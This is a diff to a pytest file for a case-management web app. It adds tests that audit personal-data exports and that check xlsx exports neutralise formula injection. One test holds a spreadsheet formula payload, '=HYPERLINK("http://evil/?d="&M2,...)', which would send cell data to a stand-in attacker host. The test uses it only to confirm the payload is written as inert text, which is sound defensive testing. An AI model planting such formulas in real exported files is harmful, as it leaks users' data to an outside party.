@@ -275,6 +275,7 @@ def test_api_gives_the_same_statistics_and_refuses_bad_parameters(app, factory, 
     assert client.get(API, query_string={"since": "someday"}, headers=headers).status_code == 422
 
 
+@pytest.mark.one_backend
 def test_api_documents_the_stats_operation(app):
     spec = app.test_client().get("/api/openapi.json").get_json()
     operation = spec["paths"]["/api/v1/t/{tenant}/grid_cases/stats"]["get"]
@@ -350,6 +351,29 @@ def export(client: Any, **args: Any) -> tuple[Any, dict[str, list[tuple[Any, ...
     return response, {title: sheet_rows(book, title) for title in book.sheetnames}
 
 
+def test_a_work_list_export_is_audited_with_who_how_many_and_which_query(world, client, login_as, factory,
+                                                                         tenant_a):
+    """Reporters' names, phones and addresses leave in the file (masked or not): the download is audited."""
+    from saas.audit import AuditEntry
+
+    officer = world.people["officer1"]
+    login_as(officer)
+    response, sheets = export(client, state="final")
+    assert response.status_code == 200
+    rows = len(next(iter(sheets.values()))) - 1
+    assert rows > 0
+    with factory.as_tenant(tenant_a) as s:
+        [entry] = s.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.personal")).all()
+    assert (entry.actor_id, entry.module, entry.after["rows"]) == (officer.id, "grid_cases", rows)
+    assert entry.after["query"] == "state=final"
+    assert entry.after["file"].endswith(".xlsx")
+    # a refused export (bad filters) is not a download and is not recorded
+    assert export(client, since="2026-13-01")[0].status_code == 422
+    with factory.as_tenant(tenant_a) as s:
+        assert s.scalar(sa.select(sa.func.count()).select_from(AuditEntry)
+                        .where(AuditEntry.action == "export.personal")) == 1
+
+
 def test_work_list_export_holds_exactly_the_lists_cases(world, client, login_as):
     login_as(world.people["officer1"])
     english(client)
@@ -393,6 +417,30 @@ def test_work_list_export_columns_local_times_and_masked_phones(app, factory, wo
     _response, overdue = export(client, view="overdue")
     overdue_col = overdue["Cases"][0].index("Overdue")
     assert {r[overdue_col] for r in overdue["Cases"][1:]} == {"Yes"}
+
+
+def test_work_list_export_writes_hostile_text_as_inert_text_and_masks_phones(app, factory, world, client, login_as):
+    hostile = '=HYPERLINK("http://evil/?d="&M2,"查看详情")'
+    with factory.as_tenant(world.tenant) as s:
+        case = s.scalars(sa.select(GridCase).where(GridCase.id == world.cases["c3"])).one()
+        case.description = f"{hostile} 请回电 138 0013 8000"
+        case.address = "@SUM(1+1)"
+        s.commit()
+    login_as(world.people["admin"])
+    english(client)
+    response = client.get("/t/alpha/grid_cases/export.xlsx", query_string={"q": hostile})
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.data))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    header, *rows = sheet_rows(book, "Cases")
+    col = {name: i for i, name in enumerate(header)}
+    [c3] = [r for r in rows if r[col["Problem"]].startswith("'=HYPERLINK")]
+    assert c3[col["Problem"]] == f"'{hostile} 请回电 *************"
+    assert c3[col["Address or landmark"]] == "'@SUM(1+1)"
+    assert c3[col["Reporter's mobile number"]] == "139****0003"
+    about = dict(sheet_rows(book, "About this file")[1:])
+    assert about["Number or words"] == "'" + hostile  # the crafted link's filter, written back as text
 
 
 def test_work_list_export_refuses_more_rows_than_its_cap(world, client, login_as, monkeypatch):
